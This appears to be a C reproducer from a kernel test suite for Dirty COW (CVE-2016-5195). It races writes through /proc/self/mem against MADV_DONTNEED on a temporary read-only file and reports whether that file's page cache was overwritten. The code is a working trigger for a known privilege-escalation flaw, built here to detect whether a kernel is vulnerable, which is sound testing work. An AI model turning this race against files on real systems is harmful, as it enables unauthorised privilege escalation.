/* Trigger for Dirty COW (CVE-2016-5195): /proc/self/mem writes racing MADV_DONTNEED. */
/*
 * A read-only file is mapped MAP_PRIVATE; one thread writes into the mapping through
 * /proc/self/mem (FOLL_FORCE: it must land in a private COW copy), another drops the copy with
 * MADV_DONTNEED. On affected kernels the retried GUP forgets FOLL_WRITE and writes the page
 * cache of the file itself. Evidence: the file, read through another descriptor, changed.
 */
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <time.h>

#include "repro_lib.h"

#define RACE_NS		1500000000LL
#define MARK		"mmstorm-dirty-cow"

struct race {
	char *map;
	long psz;
	int memfd;
	volatile int stop;
};

static long long now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

static void *dontneed(void *arg)
{
	struct race *r = arg;

	while (!r->stop)
		madvise(r->map, (size_t)r->psz, MADV_DONTNEED);
	return NULL;
}

int main(void)
{
	char path[4096], buf[64];
	struct race r = { .psz = sysconf(_SC_PAGESIZE) };
	long long end, writes = 0;
	pthread_t t;
	int fd, ret;

	snprintf(path, sizeof(path), "%s/dirty-cow-XXXXXX", repro_tmpdir());
	fd = mkstemp(path);
	if (fd < 0)
		return repro_error("mkstemp %s: %s", path, strerror(errno));
	memset(buf, 'A', sizeof(buf));
	if (ftruncate(fd, r.psz) || pwrite(fd, buf, sizeof(buf), 0) != sizeof(buf)) {
		ret = repro_error("writing %s: %s", path, strerror(errno));
		goto out_file;
	}
	r.map = mmap(NULL, (size_t)r.psz, PROT_READ, MAP_PRIVATE, fd, 0);
	r.memfd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	if (r.map == MAP_FAILED || r.memfd < 0) {
		ret = repro_error("mmap or /proc/self/mem: %s", strerror(errno));
		goto out_file;
	}
	if (pthread_create(&t, NULL, dontneed, &r)) {
		ret = repro_error("pthread_create failed");
		goto out_mem;
	}
	for (end = now_ns() + RACE_NS; now_ns() < end; writes++)
		if (pwrite(r.memfd, MARK, strlen(MARK), (off_t)(uintptr_t)r.map) < 0)
			break;
	r.stop = 1;
	pthread_join(t, NULL);
	if (pread(fd, buf, sizeof(buf), 0) != sizeof(buf)) {
		ret = repro_error("reading %s back: %s", path, strerror(errno));
		goto out_mem;
	}
	if (!memcmp(buf, MARK, strlen(MARK)))
		ret = repro_found("a read-only file's page cache took the write made through "
				  "/proc/self/mem into its private mapping (after %lld writes)",
				  writes);
	else
		ret = repro_not("%lld /proc/self/mem writes raced MADV_DONTNEED for %.1f s; the "
				"file kept its content", writes, RACE_NS / 1e9);
out_mem:
	close(r.memfd);
out_file:
	close(fd);
	unlink(path);
	return ret;
}
